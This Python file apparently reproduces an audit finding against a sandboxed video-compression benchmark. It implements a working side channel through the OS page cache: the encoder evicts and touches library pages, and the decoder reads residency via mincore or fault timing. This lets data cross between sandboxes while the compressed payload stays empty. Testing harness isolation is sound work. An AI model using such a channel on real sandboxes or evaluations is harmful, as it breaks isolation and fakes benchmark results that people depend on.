"""Attack (issue 12, finding 2): carry bits from encoder to decoder outside the bitstream,
in the page cache of a large read-only library both sandboxes see.

The encoder sends the low bit of the first BITS bytes of frame 0: it evicts the
pages of a region of the library (posix_fadvise DONTNEED; MADV_PAGEOUT as a
second try) and reads back exactly the pages whose bit is 1. The decoder asks
which pages are resident (mincore, else cachestat-like probes, else the time a
page fault takes: METHOD "timing") and paints the bits into frame 0: byte i
is 255 for a 1. Byte BITS says whether mincore worked, byte BITS+1 whether
eviction worked. The payload is empty.

With METHOD "timing" both sides map the region with MADV_RANDOM, so that a
fault loads exactly one page (no readahead smearing a 1 over its neighbours):
the encoder touches the pages whose bit is 1, the decoder times a fault on
every page. That needs cold pages to start with; eviction is denied, so the
encoder relies on pages nobody has read yet (a test evicts the region from
outside to play that part).
"""
import ctypes
import mmap
import os
import time

import numpy as np

BITS = 2048
PAGE = 4096
METHOD = "{{METHOD}}"


def _library():
    """The biggest file of the bound site-packages that importing numpy does not read
    (numpy's own libraries are paged in by the import, in both sessions)."""
    import numpy

    site = os.path.dirname(os.path.dirname(numpy.__file__))
    best = (0, "")
    for root, dirs, files in os.walk(site):
        dirs[:] = [d for d in dirs if not d.startswith("numpy")]
        for name in files:
            path = os.path.join(root, name)
            try:
                size = os.path.getsize(path)
            except OSError:
                continue
            if size > best[0]:
                best = (size, path)
    return best[1]


def _region(fd):
    size = os.fstat(fd).st_size
    start = max(0, (size // PAGE - BITS - 64)) * PAGE  # the tail: least likely to be in use
    return start, BITS * PAGE


def compress_video_frame(frame, frame_index, config):
    if frame_index != 0:
        return b""
    bits = frame.reshape(-1)[:BITS] & 1
    fd = os.open(_library(), os.O_RDONLY)
    start, length = _region(fd)
    evicted = 1
    try:
        os.posix_fadvise(fd, start, length, os.POSIX_FADV_DONTNEED)
    except OSError:
        evicted = 0
        try:
            m = mmap.mmap(fd, length, prot=mmap.PROT_READ, offset=start)
            m.madvise(21)  # MADV_PAGEOUT
            m.close()
            evicted = 1
        except (OSError, ValueError):
            pass
    if METHOD == "timing":
        m = mmap.mmap(fd, length, prot=mmap.PROT_READ, offset=start)
        m.madvise(mmap.MADV_RANDOM)
        for i in np.flatnonzero(bits):
            m[int(i) * PAGE]
        m.close()
    else:
        for i in np.flatnonzero(bits):
            os.pread(fd, 1, start + int(i) * PAGE)
    os.close(fd)
    return bytes([evicted])


def _mincore(fd, start, length):
    libc = ctypes.CDLL(None, use_errno=True)
    # private and writable only so that ctypes can take its address; nothing is written
    m = mmap.mmap(fd, length, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ | mmap.PROT_WRITE, offset=start)
    # the mapping's address, through a ctypes view of the mmap object
    view = (ctypes.c_char * 1).from_buffer(m)
    addr = ctypes.addressof(view)
    vec = (ctypes.c_ubyte * (length // PAGE))()
    rc = libc.mincore(ctypes.c_void_p(addr), ctypes.c_size_t(length), vec)
    err = ctypes.get_errno()
    del view
    m.close()
    if rc != 0:
        raise OSError(err, "mincore")
    return np.frombuffer(bytes(vec), np.uint8) & 1


def _timing(fd, start):
    m = mmap.mmap(fd, BITS * PAGE, prot=mmap.PROT_READ, offset=start)
    m.madvise(mmap.MADV_RANDOM)
    times = np.empty(BITS)
    for i in range(BITS):
        t0 = time.perf_counter_ns()
        m[i * PAGE]
        times[i] = time.perf_counter_ns() - t0
    m.close()
    # a resident page faults in about a microsecond; a miss goes to the disk
    fast = np.sort(times)[: BITS // 8]
    return (times < max(8 * float(np.median(fast)), 5000)).astype(np.uint8)


def decompress_video_frame(compressed_data, frame_index, config):
    out = np.zeros((config["height"], config["width"], 3), np.uint8)
    if frame_index != 0:
        return out
    fd = os.open(_library(), os.O_RDONLY)
    start, length = _region(fd)
    flat = out.reshape(-1)
    bits = None
    if METHOD != "timing":
        try:
            bits = _mincore(fd, start, length)
            flat[BITS] = 1
        except OSError:
            bits = None
    if bits is None and METHOD == "timing":
        bits = _timing(fd, start)
    os.close(fd)
    if bits is not None:
        flat[:BITS] = bits * 255
    flat[BITS + 1] = compressed_data[:1] == b"\x01"
    return out
